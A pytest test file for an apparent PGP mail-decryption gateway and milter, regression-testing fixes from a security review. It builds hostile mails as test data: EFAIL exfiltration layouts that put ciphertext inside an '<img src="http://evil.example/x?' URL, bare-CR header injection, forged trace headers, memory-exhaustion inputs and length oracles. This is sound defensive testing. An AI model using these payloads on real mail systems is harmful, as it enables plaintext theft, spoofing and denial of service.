# SPDX-License-Identifier: MIT
"""Findings of an attacker's review of libpdmail (mail/pdmail.c),
pgpdecd-milter and pgpdecd-client --mime, each a test that failed before its
fix: header fields in parts counted before GMime builds them, a bare CR in a
header (outer or protected Subject) forges no result field, protected
headers replace no trace fields, a 60 MiB decoded line costs no memory, a
huge protected Subject is neither promoted nor a tempfail (and a header
section over the milter's bounds is refused 550 LIMIT), and a mail over the
part limit is not parsed by the milter either.

Run: PD_BUILD_DIR=build /usr/bin/python3 -m pytest -q tests/integration/test_mail_review.py
"""
import base64
import contextlib
import email
import email.policy
import os
import re
import subprocess

import pytest

from test_mime import CLIENT, env, mime, parse, peak_rss, pytestmark  # noqa: F401 (env: the fixture)


def pgp_mime(env, entity: bytes, outer: bytes = b"From: a@x\nTo: b@x\nSubject: ...\n") -> bytes:
    return (outer + b"MIME-Version: 1.0\nContent-Type: multipart/encrypted;"
            b" protocol=\"application/pgp-encrypted\"; boundary=\"b1\"\n\n"
            b"--b1\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n"
            b"--b1\nContent-Type: application/octet-stream\n\n" + env["encrypt"](entity)
            + b"\n--b1--\n")


def run_rss(env, mail_path, *args):
    """(exit code, stderr, peak RSS in MiB) of pgpdecd-client --mime on a file."""
    return peak_rss([str(CLIENT), "--socket", str(env["sock"]), "--mime", *args], mail_path)


def test_many_header_fields_in_a_part_are_bounded(env, tmp_path):
    n = 2_000_000
    path = tmp_path / "fields.eml"
    path.write_bytes(b"From: a@x\nSubject: s\nMIME-Version: 1.0\n"
                     b"Content-Type: multipart/mixed; boundary=\"b\"\n\n--b\n"
                     b"Content-Type: message/rfc822\n\n" + b"a:b\n" * n + b"\nhi\n--b--\n")
    code, err, rss = run_rss(env, path)
    print(f"{n} fields in an attached message: exit {code}, peak RSS {rss:.0f} MiB")
    # refused as a LIMIT before GMime builds it
    assert rss < 128, (code, err, rss)
    assert code == 65 and err == b"pgpdecd-client: not decrypted: LIMIT\n"


def test_bare_cr_in_a_header_forges_no_result_field(env):
    mail = (b"From: a@x\nSubject: hi\rX-Pgpdecd-Status: decrypted; pieces=1; decrypted=1;"
            b" no-key=0; failed=0\nContent-Type: text/plain\n\nbody\n")
    r = mime(env, mail)
    assert r.returncode == 0, r.stderr
    assert parse(r.stdout).get_all("X-Pgpdecd-Status") == ["not-encrypted"]
    assert b"\r" not in r.stdout.split(b"\n\n", 1)[0]


def test_bare_cr_in_a_protected_subject_forges_no_result_field(env):
    entity = (b"Content-Type: text/plain; protected-headers=\"v1\"\n"
              b"Subject: hello\rX-Pgpdecd-Key: 0000000000000000000000000000000000000000\n\nhi\n")
    r = mime(env, pgp_mime(env, entity))
    assert r.returncode == 0, r.stderr
    m = parse(r.stdout)
    assert m["X-Pgpdecd-Status"].startswith("decrypted;")
    assert len(m.get_all("X-Pgpdecd-Key")) == 1, m.get_all("X-Pgpdecd-Key")
    assert b"\r" not in r.stdout.split(b"\n\n", 1)[0]


def test_protected_headers_all_keeps_trace_fields(env):
    outer = (b"Return-Path: <evil@evil.example>\nReceived: from evil.example by mx.example\n"
             b"Authentication-Results: mx.example; dkim=fail; dmarc=fail\n"
             b"From: a@x\nTo: b@x\nSubject: ...\n")
    entity = (b"Content-Type: text/plain; protected-headers=\"v1\"\nSubject: real\n"
              b"Authentication-Results: mx.example; dkim=pass header.d=bank.example; dmarc=pass\n"
              b"Received: from trusted.bank.example\nReturn-Path: <ceo@bank.example>\n\nhi\n")
    r = mime(env, pgp_mime(env, entity, outer), "--protected-headers", "all")
    assert r.returncode == 0, r.stderr
    m = parse(r.stdout)
    assert m["Subject"] == "real"
    assert m.get_all("Authentication-Results") == ["mx.example; dkim=fail; dmarc=fail"]
    assert m.get_all("Received") == ["from evil.example by mx.example"]
    assert m.get_all("Return-Path") == ["<evil@evil.example>"]


def test_long_decoded_line_bounded_memory(env, tmp_path):
    path = tmp_path / "line.eml"
    with open(path, "wb") as f:
        f.write(b"From: a@x\nSubject: l\nContent-Type: text/plain\n"
                b"Content-Transfer-Encoding: base64\n\n")
        chunk = base64.encodebytes(b"a" * (57 << 14))
        for _ in range((60 << 20) // (57 << 14)):
            f.write(chunk)
    code, err, rss = run_rss(env, path, "--spool-dir", str(tmp_path))
    assert code == 0, err
    assert rss < 32, rss


def test_milter_huge_protected_subject_is_not_a_tempfail(tmp_path_factory):
    import test_milter
    from postfix_harness import require_postfix
    require_postfix()
    gen = test_milter.env.__wrapped__(tmp_path_factory)
    e = next(gen)
    p = test_milter.milter_postfix(e, "review", e["milter"])
    try:
        p.start()
        entity = (b"Content-Type: text/plain; protected-headers=\"v1\"\nSubject: "
                  + b"a" * (5 << 20) + b"\n\nhi\n")
        enc = e["encrypt"](entity)
        assert len(enc) < 100_000
        mail = ("From: alice@test.example\nTo: bob@test.example\nSubject: ...\n"
                "MIME-Version: 1.0\nContent-Type: multipart/encrypted;"
                " protocol=\"application/pgp-encrypted\"; boundary=\"b1\"\n\n"
                "--b1\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n"
                "--b1\nContent-Type: application/octet-stream\n\n").encode() + enc + b"\n--b1--\n"
        r = p.send(mail, "alice@test.example", ["bob@test.example"])
        print(r, e["milter"].text()[-400:])
        assert r.code == 250, r    # delivered: a protected field over 8 KiB is not promoted
        got = p.wait_delivered(1)["bob@test.example"][0]
        assert b"\nSubject: ...\n" in got and len(got) < 100_000
        # A 5 MB Content-Type of the entity becomes the mail's: the written
        # header section is over the milter's bounds.  That is what was
        # decrypted, not the mail as received (no reply may depend on it):
        # the mail goes on as it came, not decrypted, status LIMIT.
        entity = (b"Content-Type: text/plain; x=\"" + b"a" * (5 << 20) + b"\"\n\nhi\n")
        mail2 = mail.split(b"--b1\nContent-Type: application/octet-stream\n\n")[0] \
            + b"--b1\nContent-Type: application/octet-stream\n\n" + e["encrypt"](entity) + b"\n--b1--\n"
        r = p.send(mail2, "alice@test.example", ["bob@test.example"])
        assert r.code == 250, r
        got = [x for x in p.wait_delivered(2)["bob@test.example"] if b"status=LIMIT" in x]
        assert len(got) == 1, got
        got = got[0]
        assert re.search(rb"\nX-Pgpdecd-Status: failed; pieces=\d+; decrypted=0;[^\n]*status=LIMIT\n", got), got.split(b"\n\n")[0][-300:]
        assert b"-----BEGIN PGP MESSAGE-----" in got and b"aaaaaaaaaa" not in got
    finally:
        p.stop()
        try:
            next(gen)
        except StopIteration:
            pass


@contextlib.contextmanager
def milter_postfix(tmp_path_factory, name, **conf):
    """(env of test_milter, its own milter with conf, a real Postfix using
    it), started; all stopped at the end."""
    import test_milter
    from postfix_harness import Postfix, require_postfix
    require_postfix()
    gen = test_milter.env.__wrapped__(tmp_path_factory)
    e = next(gen)
    mp = test_milter.milter(e["dir"], f"milter-{name}", e["daemon"].sock, **conf)
    mp.start()
    p = Postfix(artifacts=e["artifacts"] / name,
                main={"milter_default_action": "tempfail", "milter_protocol": "6",
                      "message_size_limit": "30000000"})
    p.smtpd.options["smtpd_milters"] = mp.spec
    try:
        p.start()
        yield e, mp, p
    finally:
        p.stop()
        mp.stop()
        try:
            next(gen)
        except StopIteration:
            pass


def test_milter_over_the_part_limit_is_not_parsed(tmp_path_factory):
    with milter_postfix(tmp_path_factory, "review-parts",
                        **{"on-failure": "pass", "max-message-size": "16M"}) as (e, mp, p):
        mail = (b"From: alice@test.example\nTo: bob@test.example\nSubject: parts\nMIME-Version: 1.0\n"
                b"Content-Type: multipart/mixed; boundary=\"b\"\n\n" + b"--b\n\nx\n" * 1_000_000
                + b"--b--\n")
        r = p.send(mail, "alice@test.example", ["bob@test.example"])
        hwm = [l for l in open(f"/proc/{mp.proc.pid}/status") if l.startswith("VmHWM")][0]
        kib = int(hwm.split()[1])
        print(r.code, hwm, mp.text()[-300:])
        assert r.code == 250, r
        assert kib < 256 * 1024, hwm


# Second review: what GMime builds is counted whatever the octets of a field
# name, structured fields count their items, the bounds hold for the mail as
# a whole (decrypted entities included), and a plaintext that is no MIME
# entity is a failed piece, not a local error.

def test_8bit_field_names_are_counted(env, tmp_path):
    # "\xe9a: v" is a field to GMime; the counter tested the name's octets
    # as signed chars and let 1,000,000 of them through (493 MB, 10 s).
    n = 1_000_000
    for name, mail in (
            ("top", b"From: a@x\nSubject: s\n" + b"\xe9a: v\n" * n + b"\nhi\n"),
            ("part", b"From: a@x\nSubject: s\nMIME-Version: 1.0\n"
                     b"Content-Type: multipart/mixed; boundary=\"b\"\n\n--b\n"
                     + b"\xff\x80: v\n" * n + b"\nhi\n--b--\n")):
        path = tmp_path / f"{name}.eml"
        path.write_bytes(mail)
        code, err, rss = run_rss(env, path)
        print(f"{n} 8-bit field names ({name}): exit {code}, peak RSS {rss:.0f} MiB")
        assert rss < 64, (name, code, err, rss)
        assert code == 65 and err == b"pgpdecd-client: not decrypted: LIMIT\n", (name, err)
    # a few are a mail like any other
    r = mime(env, b"From: a@x\nSubject: s\n" + b"\xe9a: v\n" * 100 + b"\nhi\n")
    assert r.returncode == 0 and parse(r.stdout)["X-Pgpdecd-Status"] == "not-encrypted"


@pytest.mark.parametrize("field", [
    b"Content-Type: text/plain" + b";\n a=b" * 1_000_000,         # 1 field, 1,000,000 parameters
    b"Content-Disposition: attachment" + b"; a=b" * 1_000_000,
    b"To: " + b"a@b, " * 1_000_000,                               # addresses
    b"To: " + b"<a@b>" * 1_000_000,                               # addresses without commas
    b"Cc: " + b"g:;" * 1_000_000,                                 # groups
    b"Date: " + b"1 " * 2_000_000,                                # date words
    b"Subject: " + b"w " * 2_000_000,                             # words, decoded one by one
], ids=["ct-params", "cd-params", "to-commas", "to-angles", "cc-groups", "date-words",
        "subject-words"])
def test_items_of_structured_fields_are_counted(env, tmp_path, field):
    # One field that GMime makes 1,000,000 objects of (418 MB, 5.6 s for
    # the parameters): counted by its items, refused before it is built.
    path = tmp_path / "items.eml"
    path.write_bytes(b"From: a@x\nSubject: s\nMIME-Version: 1.0\n" + field + b"\n\nhi\n")
    code, err, rss = run_rss(env, path)
    print(f"{field[:20]!r}...: exit {code}, peak RSS {rss:.0f} MiB")
    assert rss < 64, (code, err, rss)
    assert code == 65 and err == b"pgpdecd-client: not decrypted: LIMIT\n", err


def test_other_fields_are_not_items(env):
    # Fields GMime keeps as strings cost one field whatever their words.
    mail = (b"From: a@x\nSubject: s\nX-Words: " + b"w " * 300_000 + b"\nX-List: "
            + b"a@b, " * 300_000 + b"\n\nhi\n")
    r = mime(env, mail)
    assert r.returncode == 0, r.stderr
    assert parse(r.stdout)["X-Pgpdecd-Status"] == "not-encrypted"


def _fields_entity(n, body=b"body\n"):
    return b"Content-Type: text/plain\n" + b"X-F: v\n" * n + b"\n" + body


def test_an_entity_is_bounded_alone(env):
    # The mail and its decrypted entity shared one count of fields (review
    # of e7d51f7): a sender who pads a mail around someone's ciphertext
    # learnt from accept or reject whether its plaintext has more than t
    # fields.  45,000 fields outside, an entity of 10,000: each under
    # max_header_fields (50,000); it was LIMIT.
    outer = b"From: a@x\nTo: b@x\nSubject: ...\n" + b"X-Pad: v\n" * 45_000
    r = mime(env, pgp_mime(env, _fields_entity(10_000), outer))
    assert r.returncode == 0, r.stderr
    assert parse(r.stdout)["X-Pgpdecd-Status"] == "decrypted; pieces=1; decrypted=1; no-key=0; failed=0"
    assert r.stdout.endswith(b"\n\nbody\n")
    # The same outer mail, an entity over the bound alone: LIMIT, whatever
    # is outside, reported in the status only (the verdict never depends
    # on a plaintext: the mail is delivered, the piece left as it came).
    for pad in (0, 45_000):
        outer = b"From: a@x\nTo: b@x\nSubject: ...\n" + b"X-Pad: v\n" * pad
        r = mime(env, pgp_mime(env, _fields_entity(50_001), outer))
        assert r.returncode == 0, (pad, r.stderr)
        assert parse(r.stdout)["X-Pgpdecd-Status"] == \
            "failed; pieces=1; decrypted=0; no-key=0; failed=1; status=LIMIT"


def test_nested_entities_are_bounded_each(env):
    # Encrypted inside encrypted, 40,000 fields in each of three entities:
    # 120,000 together, each under the bound; the whole-body rule parses at
    # most max_depth + 1 entities a mail, so the sum stays bounded.
    inner = _fields_entity(40_000, b"innermost\n")
    for _ in range(2):
        enc = pgp_mime(env, inner, b"")
        inner = b"X-F: v\n" * 40_000 + enc
    r = mime(env, pgp_mime(env, inner))
    assert r.returncode == 0, r.stderr
    assert parse(r.stdout)["X-Pgpdecd-Status"] == "decrypted; pieces=3; decrypted=3; no-key=0; failed=0"
    assert r.stdout.endswith(b"\n\ninnermost\n")


EVIL_OPEN = b'<html><body><img src="http://evil.example/x?'
EVIL_CLOSE = b'"></body></html>'
SECRET = b"The board meets on Friday."


def _between_html(middle: bytes, outer=b"From: a@x\nTo: b@x\nSubject: Invoice\n") -> bytes:
    return (outer + b"MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"E\"\n\n"
            b"--E\nContent-Type: text/html\n\n" + EVIL_OPEN + b"\n--E\n" + middle +
            b"\n--E\nContent-Type: text/html\n\n" + EVIL_CLOSE + b"\n--E--\n")


def _pgp_mime_part(env, entity: bytes) -> bytes:
    return (b"Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\";"
            b" boundary=\"b1\"\n\n--b1\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n"
            b"--b1\nContent-Type: application/octet-stream\n\n" + env["encrypt"](entity) + b"\n--b1--")


@pytest.mark.parametrize("layout", ["pgp-mime", "inline", "rfc822", "alternative"])
def test_efail_ciphertext_next_to_a_senders_html_stays_encrypted(env, layout):
    # EFAIL direct exfiltration (review of the mail path, 2026-12-03): a
    # captured ciphertext, unchanged, mailed to its recipient between two
    # text/html parts of the sender's came out as plaintext inside the
    # sender's <img src="http://evil.example/x?...">.  Now only a piece that
    # is its message's whole body is decrypted; this one is left for the
    # mail reader, counted as embedded, and never sent to the daemon.
    if layout == "pgp-mime":
        middle = _pgp_mime_part(env, b"Content-Type: text/plain\n\n" + SECRET + b"\n")
    elif layout == "inline":
        middle = b"Content-Type: text/plain\n\n" + env["encrypt"](SECRET + b"\n")
    elif layout == "rfc822":   # the captured mail forwarded as an attachment
        middle = (b"Content-Type: message/rfc822\n\nFrom: c@x\nSubject: fwd\nMIME-Version: 1.0\n"
                  + _pgp_mime_part(env, b"Content-Type: text/plain\n\n" + SECRET + b"\n"))
    else:                      # the reader picks the HTML one
        middle = (b"Content-Type: multipart/alternative; boundary=\"A\"\n\n--A\n"
                  b"Content-Type: text/plain\n\n" + env["encrypt"](SECRET + b"\n") +
                  b"\n--A\nContent-Type: text/html\n\n" + EVIL_OPEN + b"\n--A--")
    mail = _between_html(middle)
    for sock in (None, env["dir"] / "no-daemon.sock"):
        # the daemon is not asked: with none listening the mail goes through alike
        r = mime(env, mail, sock=sock)
        assert r.returncode == 0, (sock, r.stderr)
        assert SECRET not in r.stdout
        m = parse(r.stdout)
        assert m["X-Pgpdecd-Status"] == "embedded; pieces=0; decrypted=0; no-key=0; failed=0; embedded=1"
        # the ciphertext as it came, and the sender's parts
        blocks = re.findall(rb"-----BEGIN PGP MESSAGE-----\n.*?-----END PGP MESSAGE-----\n", mail, re.S)
        assert len(blocks) == 1 and blocks[0] in r.stdout
        assert r.stdout.count(EVIL_OPEN) == mail.count(EVIL_OPEN) and EVIL_CLOSE in r.stdout


def test_efail_inside_a_decrypted_entity_stays_encrypted(env):
    # A sender can encrypt to the recipient a whole entity of their own:
    # the captured ciphertext between their HTML parts, inside it.  The
    # outer piece is the mail's whole body and is decrypted; the inner one
    # is not its entity's whole body and stays.
    captured = _pgp_mime_part(env, b"Content-Type: text/plain\n\n" + SECRET + b"\n")
    entity = _between_html(captured, outer=b"")
    r = mime(env, pgp_mime(env, entity))
    assert r.returncode == 0, r.stderr
    assert SECRET not in r.stdout and EVIL_OPEN in r.stdout
    assert parse(r.stdout)["X-Pgpdecd-Status"] == \
        "partly-decrypted; pieces=1; decrypted=1; no-key=0; failed=0; embedded=1"


def test_encrypted_attachment_between_html_is_an_attachment(env):
    # Encrypted attachments are decrypted wherever they are, and always as
    # an attachment: a sender's "Content-Disposition: inline" is not kept.
    middle = (b"Content-Type: application/pgp-encrypted; name=\"x.asc\"\n"
              b"Content-Disposition: inline; filename=\"x.asc\"\n\n" + env["encrypt"](SECRET + b"\n"))
    r = mime(env, _between_html(middle))
    assert r.returncode == 0, r.stderr
    m = parse(r.stdout)
    assert m["X-Pgpdecd-Status"] == "decrypted; pieces=1; decrypted=1; no-key=0; failed=0"
    att = [p for p in m.walk() if p.get_filename() == "x"]
    assert len(att) == 1 and att[0].get_content_type() == "application/octet-stream"
    assert att[0].get_content_disposition() == "attachment"
    assert att[0].get_payload(decode=True) == SECRET + b"\n"


@pytest.mark.parametrize("plaintext", [b"", b"\0"], ids=["empty", "nul"])
def test_plaintext_that_is_no_entity_is_malformed(env, plaintext):
    # GMime makes no entity of it: that piece fails MALFORMED, left as it
    # came; it was a local error (exit 75, milter 451), and the MTA retried
    # it for days.  What a plaintext holds never decides the verdict: it is
    # delivered under either policy, the failure in the status.
    mail = pgp_mime(env, plaintext)
    for policy in ("reject", "pass"):
        r = mime(env, mail, "--on-failure", policy)
        assert r.returncode == 0, (policy, r.stderr)
        assert parse(r.stdout)["X-Pgpdecd-Status"] == \
            "failed; pieces=1; decrypted=0; no-key=0; failed=1; status=MALFORMED"
        assert b"BEGIN PGP MESSAGE" in r.stdout


def test_keep_original_is_not_parsed_again(env, tmp_path):
    # --keep-original parsed the spooled mail a second time to attach it,
    # and what GMime built for it was not counted: a mail just under the
    # bounds took twice their memory (review of 2026-12-03).  The original
    # is now attached as it came, unparsed.  45,000 parameters in
    # one Content-Type, four items each with its ";" (180,000): under max_header_items (200,000).
    enc = env["encrypt"](b"kept\n")
    mail = (b"From: a@x\nSubject: s\nMIME-Version: 1.0\nContent-Type: text/plain"
            + b";\n a=b" * 45_000 + b"\n\n" + enc)
    path = tmp_path / "items.eml"
    path.write_bytes(mail)
    rss = {}
    for args in ((), ("--keep-original",)):
        code, err, rss[args] = run_rss(env, path, *args)
        assert code == 0, (args, err)
    base, keep = rss[()], rss[("--keep-original",)]
    print(f"peak RSS {base:.0f} MiB, with --keep-original {keep:.0f} MiB")
    assert keep < base * 1.25, (base, keep)
    r = mime(env, mail, "--keep-original")
    m = parse(r.stdout)
    assert m["X-Pgpdecd-Original"] == "attached" and m["X-Pgpdecd-Status"].startswith("decrypted;")
    orig = m.get_payload()[1]
    assert orig.get_content_type() == "message/rfc822" and orig.get_content_disposition() == "attachment"
    # the original as it came (line ends LF), octet for octet
    attached = r.stdout.split(b"Content-Disposition: attachment\n\n", 1)[1]
    assert attached.startswith(mail) and attached[len(mail):].lstrip(b"\n").startswith(b"--")


@pytest.mark.parametrize("layout", ["html-first", "mixed-first", "spaced-name", "rfc822", "entity"])
def test_efail_two_content_types_stay_encrypted(env, layout):
    # Two Content-Type fields: GMime takes the last (text/plain, the
    # whole-body rule passed), Thunderbird and Python's email the first.
    # Both went out as they came, around the plaintext: a text/html of the
    # sender's, or the classic EFAIL multipart/mixed (the plaintext between
    # two of the sender's HTML parts).  Now such a body is not a whole body.
    blk = env["encrypt"](SECRET + b"\n")
    head = b"From: a@x\nTo: b@x\nSubject: s\nMIME-Version: 1.0\n"
    if layout == "mixed-first":
        mail = (head + b"Content-Type: multipart/mixed; boundary=\"E\"\nContent-Type: text/plain\n\n"
                b"--E\nContent-Type: text/html\n\n" + EVIL_OPEN + b"\n--E\nContent-Type: text/plain\n\n"
                + blk + b"\n--E\nContent-Type: text/html\n\n" + EVIL_CLOSE + b"\n--E--\n")
    elif layout == "rfc822":
        mail = (head + b"Content-Type: text/html\nContent-Type: message/rfc822\n\nFrom: c@x\nX-A: "
                + EVIL_OPEN + b"\nContent-Type: text/plain\n\n" + blk + EVIL_CLOSE + b"\n")
    else:
        ct = (b"Content-Type : text/html\n" if layout == "spaced-name" else b"Content-Type: text/html\n")
        text = ct + b"Content-Type: text/plain\n\n" + EVIL_OPEN + b"\n" + blk + EVIL_CLOSE + b"\n"
        mail = pgp_mime(env, text) if layout == "entity" else head + text
    r = mime(env, mail)
    assert r.returncode == 0, r.stderr
    assert SECRET not in r.stdout
    status = parse(r.stdout)["X-Pgpdecd-Status"]
    assert status.endswith("; embedded=1"), status


def test_flowed_text_does_not_join_the_senders_line_to_the_plaintext(env):
    # format=flowed; delsp=yes: a line of the sender's ending in a space is
    # joined to the next one with the space removed, so a reader showed
    # "http://evil.example/?q=The" as one link, the plaintext's first word
    # in the sender's URL.  A rebuilt text is shown as written (fixed).
    mail = (b"From: a@x\nSubject: s\nMIME-Version: 1.0\n"
            b"Content-Type: text/plain; format=flowed; delsp=yes\n\n"
            b"Click http://evil.example/?q= \n" + env["encrypt"](SECRET + b"\n"))
    r = mime(env, mail)
    assert r.returncode == 0, r.stderr
    m = parse(r.stdout)
    assert m["X-Pgpdecd-Status"].startswith("decrypted;")
    assert SECRET in r.stdout
    assert m.get_param("format") == "fixed", m["Content-Type"]


def _captured(env, body: bytes) -> bytes:
    """Someone's PGP/MIME part (the ciphertext a sender captured)."""
    return _pgp_mime_part(env, b"Content-Type: text/plain\n\n" + body)


def test_plaintext_budget_is_no_length_oracle(env):
    # A sender wraps a captured ciphertext C in an entity of their own,
    # encrypted to the gateway, padded so that the plaintexts pass
    # max-plaintext (1 MiB) exactly when C's is longer than 150 octets: the
    # mail was accepted or rejected (LIMIT) by C's length, to the octet by
    # bisection (review of 23ff623).  Now the same answer either way.
    answers, statuses = set(), []
    for secret in (b"s" * 100, b"s" * 200):
        captured = _captured(env, secret)
        head = b"Content-Type: text/plain\n\n"
        # the entity's plaintext, then C's: 1 MiB is passed by C's octet 151
        room = (1 << 20) - (len(head) + 150)
        pad = b"X-Pad: " + b"X" * (room - len(captured) - 8) + b"\n"
        entity = pad + captured
        assert len(entity) == room
        r = mime(env, pgp_mime(env, entity), "--max-plaintext", "1")
        answers.add((r.returncode, r.stderr))
        statuses.append(parse(r.stdout)["X-Pgpdecd-Status"] if r.returncode == 0 else r.stderr)
    assert answers == {(0, b"")}, answers
    assert statuses == ["decrypted; pieces=2; decrypted=2; no-key=0; failed=0",
                        "partly-decrypted; pieces=2; decrypted=1; no-key=0; failed=1; status=LIMIT"]


def test_nesting_limit_is_no_content_oracle(env):
    # The captured C wrapped in max-depth (4) layers of the sender's: C's
    # plaintext is walked at depth 5.  A plaintext holding an encrypted
    # attachment was rejected LIMIT, a plain one accepted (review of
    # 23ff623).  Now both are delivered; the limit is in the status.
    plain = b"Content-Type: text/plain\n\nhello\n"
    att = (b"Content-Type: multipart/mixed; boundary=\"Q\"\n\n--Q\nContent-Type: text/plain\n\nhi\n"
           b"--Q\nContent-Type: application/octet-stream; name=\"a.pgp\"\n"
           b"Content-Disposition: attachment; filename=\"a.pgp\"\n\n" + env["encrypt"](b"inner\n")
           + b"\n--Q--\n")
    statuses = []
    for inner in (plain, att):
        entity = _pgp_mime_part(env, inner)
        for _ in range(4):
            entity = _pgp_mime_part(env, entity)
        r = mime(env, b"From: a@x\nSubject: s\nMIME-Version: 1.0\n" + entity)
        assert r.returncode == 0, r.stderr
        statuses.append(parse(r.stdout)["X-Pgpdecd-Status"])
    assert statuses == ["decrypted; pieces=5; decrypted=5; no-key=0; failed=0",
                        "partly-decrypted; pieces=5; decrypted=5; no-key=0; failed=1; status=LIMIT"]
